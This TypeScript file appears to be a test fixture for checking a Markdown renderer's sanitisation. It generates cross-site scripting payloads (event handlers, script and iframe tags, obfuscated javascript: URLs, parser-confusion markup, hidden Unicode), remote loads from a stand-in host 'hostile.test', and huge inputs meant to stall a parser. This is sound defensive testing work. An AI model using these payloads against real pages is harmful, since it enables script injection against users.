/** Each payload tries to run this script. */
const code = 'window.hacked=1';
/** Each payload tries to load this URL. The host name does not resolve. */
const remote = 'https://hostile.test';

const events = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'onanimationstart',
  'ontoggle',
].concat(['onpointerenter', 'onbeforetoggle', 'onscrollsnapchange', 'onwheel']);
const tags = [
  'img src=x',
  `img src=${remote}/a.png`,
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'iframe',
  'details open',
  'input autofocus',
  'marquee',
  'math',
  'object data=x',
  'embed src=x',
  'style',
  'select autofocus',
  'textarea autofocus',
  'div style="animation:a 1s"',
];

const inTags = tags.flatMap((tag) => events.map((event) => `<${tag} ${event}="${code}">`));

const elements = [
  `<script>${code}</script>`,
  `<script src="${remote}/a.js"></script>`,
  `<iframe src="javascript:parent.hacked=1"></iframe>`,
  `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
  `<object data="data:text/html,<script>${code}</script>"></object>`,
  `<embed src="${remote}/a.swf">`,
  `<link rel="stylesheet" href="${remote}/a.css">`,
  `<link rel="preload" as="image" href="${remote}/a.png">`,
  `<meta http-equiv="refresh" content="0;url=${remote}">`,
  `<base href="${remote}/">`,
  `<style>@import "${remote}/a.css";</style>`,
  `<form action="${remote}"><button autofocus>go</button></form>`,
  `<svg><script>${code}</script></svg>`,
  `<svg><a xlink:href="javascript:${code}"><text>a</text></a></svg>`,
  `<svg><use href="${remote}/a.svg#a"></use></svg>`,
  `<svg><image href="${remote}/a.png"></image></svg>`,
  `<svg><animate onbegin="${code}" attributeName="x"></svg>`,
  `<svg><foreignObject><img src=x onerror="${code}"></foreignObject></svg>`,
  `<math><mtext><img src=x onerror="${code}"></mtext></math>`,
  `<math href="javascript:${code}">a</math>`,
  `<math><mi//xlink:href="data:x,<script>${code}</script>">`,
  `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${code}>`,
  `<table><td><svg><style><img src=x onerror=${code}></style></svg>`,
  `<template><script>${code}</script></template>`,
  `<xmp><p title="</xmp><img src=x onerror=${code}>">`,
  `<select><iframe></select><img src=x onerror=${code}>`,
  `<!--><img src=x onerror=${code}>-->`,
  `<![CDATA[><img src=x onerror=${code}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${code}>`,
  `<video><source onerror="${code}" src=x></video>`,
  `<picture><source srcset="${remote}/a.png"><img src=x></picture>`,
  `<p style="background:url(${remote}/a.png)">a</p>`,
  `<a href="javascript:${code}" autofocus>a</a>`,
  `<dialog open><img src=x onerror=${code}></dialog>`,
  `<portal src="${remote}"></portal>`,
];

const wraps: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `**${payload}**`,
  (payload) => `- ${payload}`,
  (payload) => `> ${payload}`,
  (payload) => `| a | ${payload} |\n|---|---|\n| ${payload} | b |`,
  (payload) => `# ${payload}`,
  (payload) => `\`\`\`html\n${payload}\n\`\`\``,
  (payload) => `\`${payload}\``,
  (payload) => `[${payload}](${remote})`,
  (payload) => `Text[^1]\n\n[^1]: ${payload}`,
];

const schemes = ['javascript', 'vbscript', 'data', 'livescript', 'blob', 'file', 'view-source'].flatMap(
  (scheme) => [
    `${scheme}:`,
    `${scheme.toUpperCase()}:`,
    ` ${scheme}:`,
    `\u0001${scheme}:`,
    `${scheme.slice(0, 4)}\t${scheme.slice(4)}:`,
    `${scheme}&colon;`,
    `${scheme}&#58;`,
    `${scheme}&#x3A;`,
    `&#${scheme.charCodeAt(0)};${scheme.slice(1)}:`,
    `%${scheme.charCodeAt(0).toString(16)}${scheme.slice(1)}:`,
    `\u200b${scheme}:`,
    `\u202e${scheme}:`,
    `${scheme}\\:`,
    `//${scheme}:`,
  ],
);
const links: readonly ((address: string) => string)[] = [
  (address) => `[a](${address})`,
  (address) => `[a](<${address}>)`,
  (address) => `[a](${address} "title")`,
  (address) => `![a](${address})`,
  (address) => `[![a](${address})](${address})`,
  (address) => `<${address}>`,
  (address) => `[a]\n\n[a]: ${address}`,
  (address) => `[a][b]\n\n[b]: <${address}> 'x'`,
];
const addresses = schemes.map((scheme) => `${scheme}${scheme.includes('data') ? 'text/html,' : ''}${code}`);

const remoteAddresses = [
  `${remote}/a.png`,
  `//hostile.test/a.png`,
  `\\\\hostile.test\\a.png`,
  `http:hostile.test`,
];

const infos = [
  `js" onload="${code}`,
  `"><img src=x onerror=${code}>`,
  'constructor',
  '__proto__',
  '../../a',
  '{.hacked #hacked}',
  'html\u202e',
  `js\u0000${code}`,
  'a'.repeat(5_000),
];
const fences = infos.flatMap((info) =>
  ['```', '~~~', '````'].map((mark) => `${mark}${info}\n<script>${code}</script>\n${mark}`),
);

const hidden = [
  '\u202e',
  '\u2066',
  '\u200b',
  '\u200d',
  '\ufeff',
  '\u0000',
  '\u2028',
  '\ud800',
  '\u00ad',
].flatMap((mark) => [
  `a${mark}<img src=x onerror=${code}>`,
  `[${mark}a](java${mark}script:${code})`,
  mark.repeat(2_000),
]);

const entities = ['&lt;', '&#60;', '&#x3c;', '&LT', '\\u003c', '%3C', '\uff1c', '&amp;lt;'].flatMap(
  (less) => [`${less}img src=x onerror=${code}>`, `${less}script>${code}${less}/script>`],
);

/** Maximum length of an answer. A parser without limits would take minutes or run out of memory. */
const answerMax = 200_000;
const heavy = [
  '[',
  '![',
  '[a](',
  '*',
  '**a ',
  '_a',
  '`',
  '> ',
  '- ',
  '|a',
  '| a |\n',
  'a\n\n',
  '- a\n',
  '\n',
  '# a\n',
].concat(
  [
    '`a`',
    '**a**',
    '<div>',
    '&lt;',
    '[^1]',
    '\\',
    '    - a\n',
    '```\n',
    '~~~js\n',
    '1. ',
    '\u202e',
    '(',
    ')',
    '!',
    'a*b_',
  ],
  ['```js\nlet a = `${', '[a]: b\n', '|-|\n', '***\n', '<!--', '\t'],
);
export const heavyPayloads = heavy.map((piece) => piece.repeat(answerMax / piece.length));

const light = [
  ...elements.flatMap((payload) => wraps.map((wrap) => wrap(payload))),
  ...inTags.flatMap((payload, index) => [
    payload,
    wraps[1 + (index % (wraps.length - 1))]?.(payload) ?? payload,
  ]),
  ...[...addresses, ...remoteAddresses].flatMap((address) => links.map((link) => link(address))),
  ...fences,
  ...hidden,
  ...entities,
];

export const lightPayloads: readonly string[] = [...new Set(light)];
